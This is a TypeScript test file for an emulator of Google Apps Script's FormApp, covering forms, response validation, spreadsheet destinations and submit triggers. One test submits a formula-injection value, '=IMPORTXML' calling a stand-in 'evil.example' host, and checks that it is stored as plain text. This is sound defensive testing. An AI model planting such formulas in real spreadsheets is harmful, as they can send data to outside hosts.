import { EmulatorContext } from '../../emulator/core/context';
import { NotEmulatedError } from '../../emulator/core/errors';
import { deserializeState, serializeState } from '../../emulator/core/persist';
import { emptyState, type SheetState, type SpreadsheetState } from '../../emulator/core/state';
import { buildSheetsSubmitEvent, createFormApp, submitFormResponse } from '../../emulator/forms';

const NOW = new Date('2024-09-02T07:30:05Z'); // 10:30:05 in Moscow

function setup() {
  const ctx = new EmulatorContext(emptyState());
  ctx.state.now = new Date(NOW.getTime());
  const FormApp = createFormApp(ctx);
  return { ctx, FormApp };
}

function addSpreadsheet(ctx: EmulatorContext, id = 'ss1'): SpreadsheetState {
  const sheet: SheetState = {
    sheetId: 0,
    name: 'Лист1',
    values: [],
    formulas: {},
    numberFormats: {},
    validations: {},
    notes: {},
    maxRows: 1000,
    maxColumns: 26,
    frozenRows: 0,
    frozenColumns: 0,
    hidden: false,
    tabColor: null,
  };
  const ss: SpreadsheetState = {
    id,
    name: 'Наставничество',
    timeZone: 'Europe/Moscow',
    locale: 'ru',
    sheets: [sheet],
    activeSheetId: 0,
    metadata: [],
    protections: [],
    editors: [],
    owner: 'curator@school.example',
    linkedForms: [],
  };
  ctx.state.spreadsheets[id] = ss;
  return ss;
}

/** A mentee questionnaire like the add-on builds. */
function buildForm(FormApp: GoogleAppsScript.Forms.FormApp) {
  const form = FormApp.create('Анкета наставляемого');
  form.setCollectEmail(true);
  form.addTextItem().setTitle('ФИО').setRequired(true);
  form.addSectionHeaderItem().setTitle('О себе');
  const subj = form.addMultipleChoiceItem().setTitle('Предмет');
  subj.setChoiceValues(['Математика', 'Физика']);
  form.addCheckboxItem().setTitle('Трудности').setChoiceValues(['Дисциплина', 'Планирование', 'Документы']);
  form.addScaleItem().setTitle('Готовность').setBounds(1, 10).setRequired(true);
  form.addDateItem().setTitle('Дата начала работы');
  form.addParagraphTextItem().setTitle('Комментарий');
  return form;
}

describe('FormApp: forms and items', () => {
  test('create, open by id and url, urls, settings', () => {
    const { ctx, FormApp } = setup();
    const form = FormApp.create('Анкета');
    const id = form.getId();
    expect(ctx.state.forms[id].title).toBe('Анкета');
    expect(ctx.state.drive.files[id].mimeType).toBe('application/vnd.google-apps.form');
    expect(form.getEditUrl()).toBe(`https://docs.google.com/forms/d/${id}/edit`);
    expect(form.getPublishedUrl()).toBe(`https://docs.google.com/forms/d/e/${id}/viewform`);
    expect(form.shortenFormUrl(form.getPublishedUrl())).toMatch(/^https:\/\/forms\.gle\/[A-Za-z0-9]+$/);
    expect(FormApp.openById(id).getTitle()).toBe('Анкета');
    expect(FormApp.openByUrl(form.getEditUrl()).getId()).toBe(id);
    expect(() => FormApp.openById('nope')).toThrow(/No item with the given ID/);
    ctx.state.drive.files[id].trashed = true;
    expect(() => FormApp.openById(id)).toThrow(/No item with the given ID/);
    expect(FormApp.getActiveForm()).toBeNull();

    form.setDescription('Описание').setConfirmationMessage('Спасибо!').setAcceptingResponses(false);
    form.setAllowResponseEdits(true).setLimitOneResponsePerUser(true);
    expect(form.getDescription()).toBe('Описание');
    expect(form.isAcceptingResponses()).toBe(false);
    expect(ctx.state.forms[id]).toMatchObject({
      allowResponseEdits: true,
      limitOneResponsePerUser: true,
      confirmationMessage: 'Спасибо!',
    });
  });

  test('items: types, casts, choices, scale, validation, delete and move', () => {
    const { ctx, FormApp } = setup();
    const form = buildForm(FormApp);
    const items = form.getItems();
    expect(items.map((i) => i.getType())).toEqual([
      FormApp.ItemType.TEXT,
      FormApp.ItemType.SECTION_HEADER,
      FormApp.ItemType.MULTIPLE_CHOICE,
      FormApp.ItemType.CHECKBOX,
      FormApp.ItemType.SCALE,
      FormApp.ItemType.DATE,
      FormApp.ItemType.PARAGRAPH_TEXT,
    ]);
    expect(form.getItems(FormApp.ItemType.CHECKBOX).map((i) => i.getTitle())).toEqual(['Трудности']);
    const mc = items[2].asMultipleChoiceItem();
    expect(mc.getChoices().map((c) => c.getValue())).toEqual(['Математика', 'Физика']);
    mc.setChoices([mc.createChoice('Химия'), mc.createChoice('Биология')]).showOtherOption(true);
    expect(mc.hasOtherOption()).toBe(true);
    expect(ctx.state.forms[form.getId()].items[2].choices).toEqual(['Химия', 'Биология']);
    expect(() => items[2].asTextItem()).toThrow(/cannot be cast to TextItem/);
    const scale = items[4].asScaleItem().setLabels('низкая', 'высокая');
    expect([scale.getLowerBound(), scale.getUpperBound(), scale.getLeftLabel()]).toEqual([1, 10, 'низкая']);
    expect(scale.isRequired()).toBe(true);
    expect(() => scale.setBounds(1, 11)).toThrow();

    const text = items[0].asTextItem();
    text.setValidation(
      FormApp.createTextValidation().setHelpText('Только e-mail').requireTextIsEmail().build(),
    );
    expect(ctx.state.forms[form.getId()].items[0].validation).toEqual({
      kind: 'requireTextIsEmail',
      args: [],
      helpText: 'Только e-mail',
    });

    const grid = form
      .addGridItem()
      .setTitle('Оценки')
      .setRows(['Уроки', 'Документы'])
      .setColumns(['1', '2', '3']);
    expect(grid.getRows()).toEqual(['Уроки', 'Документы']);
    expect(form.getItemById(grid.getId())?.getIndex()).toBe(7);
    expect(form.getItemById(999999)).toBeNull();

    form.moveItem(form.getItemById(grid.getId()) as GoogleAppsScript.Forms.Item, 0);
    expect(form.getItems()[0].getTitle()).toBe('Оценки');
    form.deleteItem(0);
    form.deleteItem(form.getItems()[0]);
    expect(form.getItems().map((i) => i.getTitle())[0]).toBe('О себе');
    expect(() => grid.getTitle()).toThrow(/deleted/);
  });

  test('calls are counted and unimplemented methods throw NotEmulatedError', () => {
    const { ctx, FormApp } = setup();
    const form = FormApp.create('A');
    form.addTextItem().setTitle('Q');
    form.getItems();
    expect(ctx.calls.get('FormApp.create')).toBe(1);
    expect(ctx.calls.get('Form.addTextItem')).toBe(1);
    expect(ctx.calls.get('TextItem.setTitle')).toBe(1);
    expect(ctx.calls.get('Form.getItems')).toBe(1);
    expect(() => form.setIsQuiz(true)).toThrow(NotEmulatedError);
    expect(() => form.addVideoItem()).toThrow('Form.addVideoItem is not emulated');
    expect(() => FormApp.createCheckboxValidation()).toThrow(NotEmulatedError);
  });
});

describe('FormApp: destination sheet and submissions', () => {
  test('setDestination creates the response sheet with its header and links the form', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    expect(form.getDestinationId()).toBe('ss1');
    expect(form.getDestinationType()).toBe(FormApp.DestinationType.SPREADSHEET);
    expect(ss.linkedForms).toEqual([form.getId()]);
    const sheet = ss.sheets[1];
    expect(sheet).toMatchObject({ sheetId: 1, name: 'Ответы на форму (1)', frozenRows: 1, maxRows: 1000 });
    expect(sheet.values).toEqual([
      [
        'Отметка времени',
        'Адрес электронной почты',
        'ФИО',
        'Предмет',
        'Трудности',
        'Готовность',
        'Дата начала работы',
        'Комментарий',
      ],
    ]);
    expect(sheet.maxColumns).toBe(8);

    // a question added later gets its column at the end; a rename follows the column
    form.addListItem().setTitle('Стаж').setChoiceValues(['до 3 лет', 'больше']);
    form.getItems()[0].setTitle('Фамилия, имя, отчество');
    expect(sheet.values[0]).toEqual([
      'Отметка времени',
      'Адрес электронной почты',
      'Фамилия, имя, отчество',
      'Предмет',
      'Трудности',
      'Готовность',
      'Дата начала работы',
      'Комментарий',
      'Стаж',
    ]);

    // a second form on the same spreadsheet gets the next sheet
    const other = FormApp.create('Анкета наставника');
    other.addTextItem().setTitle('ФИО');
    other.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    expect(ss.sheets[2]).toMatchObject({ sheetId: 2, name: 'Ответы на форму (2)' });
    expect(ss.sheets[2].values).toEqual([['Отметка времени', 'ФИО']]);

    form.removeDestination();
    expect(ss.linkedForms).toEqual([other.getId()]);
    expect(ss.sheets).toHaveLength(3);
    expect(() => form.getDestinationId()).toThrow(/no response destination/);
    expect(() =>
      FormApp.create('x').setDestination(FormApp.DestinationType.SPREADSHEET, 'missing'),
    ).toThrow();
  });

  test('a submission appends one row with values typed as Sheets stores them', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    submitFormResponse(
      ctx,
      form.getId(),
      {
        ФИО: '=IMPORTXML("http://evil.example","//a")',
        Предмет: 'Физика',
        Трудности: ['Дисциплина', 'Документы'],
        Готовность: 8,
        'Дата начала работы': '2024-09-01',
        Комментарий: '+7 900 000-00-00',
      },
      'ivanova@school.example',
    );
    const sheet = ss.sheets[1];
    expect(sheet.values).toHaveLength(2);
    const row = sheet.values[1];
    expect(row[0]).toBeInstanceOf(Date);
    expect((row[0] as Date).getTime()).toBe(NOW.getTime());
    expect(row.slice(1, 6)).toEqual([
      'ivanova@school.example',
      '=IMPORTXML("http://evil.example","//a")',
      'Физика',
      'Дисциплина, Документы',
      8,
    ]);
    expect(typeof row[5]).toBe('number');
    expect(row[6]).toEqual(new Date('2024-08-31T21:00:00Z')); // midnight 1 Sep in Moscow
    expect(row[7]).toBe('+7 900 000-00-00');
    expect(sheet.formulas).toEqual({});

    submitFormResponse(ctx, form.getId(), { ФИО: '007', Готовность: 3 }, 'petrov@school.example');
    expect(sheet.values).toHaveLength(3);
    expect(sheet.values[2]).toEqual([expect.any(Date), 'petrov@school.example', 7, '', '', 3, '', '']);
  });

  test('refusals: required, foreign choice, scale bounds, closed form, unknown question, validation', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    const id = form.getId();
    const ok = { ФИО: 'Иванова А. А.', Готовность: 5 };
    const email = 't@school.example';
    expect(() => submitFormResponse(ctx, id, { Готовность: 5 }, email)).toThrow(
      'Required question "ФИО" has no answer',
    );
    expect(() => submitFormResponse(ctx, id, { ...ok, ФИО: '' }, email)).toThrow(/Required question "ФИО"/);
    expect(() => submitFormResponse(ctx, id, { ...ok, Предмет: 'Химия' }, email)).toThrow(
      /not one of its choices/,
    );
    expect(() => submitFormResponse(ctx, id, { ...ok, Трудности: ['Лень'] }, email)).toThrow(
      /not among its choices/,
    );
    expect(() => submitFormResponse(ctx, id, { ...ok, Готовность: 11 }, email)).toThrow(/from 1 to 10/);
    expect(() => submitFormResponse(ctx, id, { ...ok, Стаж: '1' }, email)).toThrow(/no item titled "Стаж"/);
    expect(() => submitFormResponse(ctx, id, { ...ok, 'Дата начала работы': '01.09.2024' }, email)).toThrow(
      /yyyy-MM-dd/,
    );
    expect(() => submitFormResponse(ctx, id, ok, '')).toThrow(/collects e-mail/);
    form
      .getItems()[0]
      .asTextItem()
      .setValidation(FormApp.createTextValidation().requireTextLengthLessThanOrEqualTo(5).build());
    expect(() => submitFormResponse(ctx, id, ok, email)).toThrow(/refused/);
    form.getItems()[0].asTextItem().clearValidation();
    form.setAcceptingResponses(false);
    expect(() => submitFormResponse(ctx, id, ok, email)).toThrow(/not accepting responses/);
    expect(ctx.state.forms[id].responses).toHaveLength(0);
    expect(ss.sheets[1].values).toHaveLength(1);

    form.setAcceptingResponses(true);
    form.getItems()[2].asMultipleChoiceItem().showOtherOption(true);
    submitFormResponse(ctx, id, { ...ok, Предмет: 'Химия' }, email);
    expect(ss.sheets[1].values[1][3]).toBe('Химия');
  });

  test('responses: getItemResponses types, getResponse, deleteAllResponses keeps the sheet rows', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    submitFormResponse(
      ctx,
      form.getId(),
      { ФИО: 'Иванова', Трудности: ['Планирование'], Готовность: 9, 'Дата начала работы': '2024-09-01' },
      'a@school.example',
    );
    const [resp] = form.getResponses();
    expect(resp.getRespondentEmail()).toBe('a@school.example');
    expect(resp.getTimestamp()).toEqual(NOW);
    const irs = resp.getItemResponses();
    expect(irs.map((r) => r.getItem().getTitle())).toEqual([
      'ФИО',
      'Трудности',
      'Готовность',
      'Дата начала работы',
    ]);
    expect(irs.map((r) => r.getResponse())).toEqual(['Иванова', ['Планирование'], '9', '2024-09-01']);
    expect(typeof irs[2].getResponse()).toBe('string');
    expect(resp.getResponseForItem(form.getItems()[2])).toBeNull();
    expect(form.getResponse(resp.getId()).getId()).toBe(resp.getId());
    expect(() => form.getResponse('nope')).toThrow();
    expect(form.getResponses(new Date(NOW.getTime() + 1))).toHaveLength(0);

    form.deleteAllResponses();
    expect(form.getResponses()).toHaveLength(0);
    expect(ss.sheets[1].values).toHaveLength(2);
  });

  test('createResponse().withItemResponse(...).submit() stores and writes a response', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    const items = form.getItems();
    const submitted = form
      .createResponse()
      .withItemResponse(items[0].asTextItem().createResponse('Петров'))
      .withItemResponse(items[3].asCheckboxItem().createResponse(['Дисциплина']))
      .withItemResponse(items[4].asScaleItem().createResponse(7))
      .withItemResponse(items[5].asDateItem().createResponse(new Date('2024-09-01T12:00:00Z')))
      .submit();
    expect(submitted.getId()).toMatch(/^resp/);
    expect(submitted.getItemResponses().map((r) => r.getResponse())).toEqual([
      'Петров',
      ['Дисциплина'],
      '7',
      '2024-09-01',
    ]);
    expect(ss.sheets[1].values[1].slice(1, 6)).toEqual([
      'curator@school.example',
      'Петров',
      '',
      'Дисциплина',
      7,
    ]);
    expect(() => items[4].asScaleItem().createResponse(20)).toThrow(/Invalid response/);
    expect(() => items[2].asMultipleChoiceItem().createResponse('Химия')).toThrow(/Invalid response/);
  });

  test('existing responses are copied to a newly linked sheet', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = FormApp.create('Опрос');
    form.addTextItem().setTitle('Класс');
    submitFormResponse(ctx, form.getId(), { Класс: '5А' }, '');
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    expect(ss.sheets[1].values).toEqual([
      ['Отметка времени', 'Класс'],
      [NOW, '5А'],
    ]);
  });

  test('a grid question takes one column per row; decimal-comma text becomes a number', () => {
    const { ctx, FormApp } = setup();
    const ss = addSpreadsheet(ctx);
    const form = FormApp.create('Оценка');
    form.addGridItem().setTitle('Оценки').setRows(['Уроки', 'Документы']).setColumns(['1', '2', '3']);
    form.addTextItem().setTitle('Часы');
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    submitFormResponse(ctx, form.getId(), { Оценки: ['3', ''], Часы: '3,5' }, '');
    expect(ss.sheets[1].values).toEqual([
      ['Отметка времени', 'Оценки [Уроки]', 'Оценки [Документы]', 'Часы'],
      [NOW, 3, '', 3.5],
    ]);
    expect(form.getResponses()[0].getItemResponses()[0].getResponse()).toEqual(['3', '']);
    expect(() => submitFormResponse(ctx, form.getId(), { Оценки: ['4', '1'] }, '')).toThrow(
      /not one of its columns/,
    );
  });

  test('save and reload keeps forms, responses with Date timestamps, and the link', () => {
    const { ctx, FormApp } = setup();
    addSpreadsheet(ctx);
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    submitFormResponse(
      ctx,
      form.getId(),
      { ФИО: 'Иванова', Трудности: ['Документы'], Готовность: 4 },
      'a@school.example',
    );
    const state = deserializeState(serializeState(ctx.state));
    const ctx2 = new EmulatorContext(state);
    const reopened = createFormApp(ctx2).openById(form.getId());
    const [resp] = reopened.getResponses();
    expect(resp.getTimestamp()).toBeInstanceOf(Date);
    expect(resp.getTimestamp()).toEqual(NOW);
    expect(resp.getItemResponses().map((r) => r.getResponse())).toEqual(['Иванова', ['Документы'], '4']);
    expect(reopened.getDestinationId()).toBe('ss1');
    expect(state.spreadsheets.ss1.sheets[1].values[1][0]).toBeInstanceOf(Date);
    submitFormResponse(ctx2, form.getId(), { ФИО: 'Петров', Готовность: 2 }, 'b@school.example');
    expect(state.spreadsheets.ss1.sheets[1].values).toHaveLength(3);
  });
});

describe('onFormSubmit triggers', () => {
  test('the event object is built from the header and the display strings', () => {
    const range = {} as GoogleAppsScript.Spreadsheet.Range;
    const source = {} as GoogleAppsScript.Spreadsheet.Spreadsheet;
    const e = buildSheetsSubmitEvent(
      { headers: ['Отметка времени', 'Q', 'Q'], display: ['02.09.2024 10:30:05', 'a', 'b'] },
      range,
      source,
      't1',
    );
    expect(e).toEqual({
      authMode: 'FULL',
      namedValues: { 'Отметка времени': ['02.09.2024 10:30:05'], Q: ['a', 'b'] },
      range,
      source,
      triggerUid: 't1',
      values: ['02.09.2024 10:30:05', 'a', 'b'],
    });
  });

  test('the destination spreadsheet trigger fires once; other spreadsheets and forms do not', () => {
    const { ctx, FormApp } = setup();
    addSpreadsheet(ctx);
    addSpreadsheet(ctx, 'ss2');
    const form = buildForm(FormApp);
    form.setDestination(FormApp.DestinationType.SPREADSHEET, 'ss1');
    const events: Record<string, unknown>[] = [];
    const other: unknown[] = [];
    ctx.resolveFunction = (name) =>
      name === 'onFormSubmitHandler'
        ? (e: unknown) => events.push(e as Record<string, unknown>)
        : name === 'otherHandler'
          ? (e: unknown) => other.push(e)
          : undefined;
    ctx.state.triggers.push(
      {
        id: 'trig1',
        handler: 'onFormSubmitHandler',
        eventType: 'ON_FORM_SUBMIT',
        source: 'SPREADSHEETS',
        sourceId: 'ss1',
      },
      {
        id: 'trig2',
        handler: 'otherHandler',
        eventType: 'ON_FORM_SUBMIT',
        source: 'SPREADSHEETS',
        sourceId: 'ss2',
      },
      { id: 'trig3', handler: 'otherHandler', eventType: 'ON_EDIT', source: 'SPREADSHEETS', sourceId: 'ss1' },
      {
        id: 'trig4',
        handler: 'otherHandler',
        eventType: 'ON_FORM_SUBMIT',
        source: 'FORMS',
        sourceId: 'another-form',
      },
    );
    submitFormResponse(
      ctx,
      form.getId(),
      {
        ФИО: 'Иванова',
        Трудности: ['Дисциплина', 'Документы'],
        Готовность: 8,
        'Дата начала работы': '2024-09-01',
      },
      'ivanova@school.example',
    );
    expect(other).toHaveLength(0);
    expect(events).toHaveLength(1);
    // building e.range and e.source costs the script no calls
    expect(ctx.calls.sum('SpreadsheetApp.') + ctx.calls.sum('Spreadsheet.') + ctx.calls.sum('Sheet.')).toBe(
      0,
    );
    const e = events[0];
    expect(e.authMode).toBe('FULL');
    expect(e.triggerUid).toBe('trig1');
    expect(e.values).toEqual([
      '02.09.2024 10:30:05',
      'ivanova@school.example',
      'Иванова',
      '',
      'Дисциплина, Документы',
      '8',
      '01.09.2024',
      '',
    ]);
    expect(e.namedValues).toMatchObject({
      'Отметка времени': ['02.09.2024 10:30:05'],
      ФИО: ['Иванова'],
      Трудности: ['Дисциплина, Документы'],
      Готовность: ['8'],
    });
    const range = e.range as GoogleAppsScript.Spreadsheet.Range;
    expect([range.getRow(), range.getColumn(), range.getNumRows(), range.getNumColumns()]).toEqual([
      2, 1, 1, 8,
    ]);
    expect(range.getSheet().getName()).toBe('Ответы на форму (1)');
    expect((e.source as GoogleAppsScript.Spreadsheet.Spreadsheet).getId()).toBe('ss1');
  });

  test('a form trigger receives the response and the form; a missing handler is named', () => {
    const { ctx, FormApp } = setup();
    const form = FormApp.create('Опрос');
    form.addTextItem().setTitle('Класс');
    const seen: {
      response: GoogleAppsScript.Forms.FormResponse;
      source: GoogleAppsScript.Forms.Form;
      triggerUid: string;
    }[] = [];
    ctx.resolveFunction = (name) =>
      name === 'onResponse' ? (e: unknown) => seen.push(e as (typeof seen)[0]) : undefined;
    ctx.state.triggers.push({
      id: 'tf',
      handler: 'onResponse',
      eventType: 'ON_FORM_SUBMIT',
      source: 'FORMS',
      sourceId: form.getId(),
    });
    submitFormResponse(ctx, form.getId(), { Класс: '5А' }, '');
    expect(seen).toHaveLength(1);
    expect(seen[0].triggerUid).toBe('tf');
    expect(seen[0].source.getId()).toBe(form.getId());
    expect(seen[0].response.getItemResponses()[0].getResponse()).toBe('5А');

    ctx.state.triggers[0].handler = 'gone';
    expect(() => submitFormResponse(ctx, form.getId(), { Класс: '6Б' }, '')).toThrow(
      /script function not found: gone/,
    );
  });
});
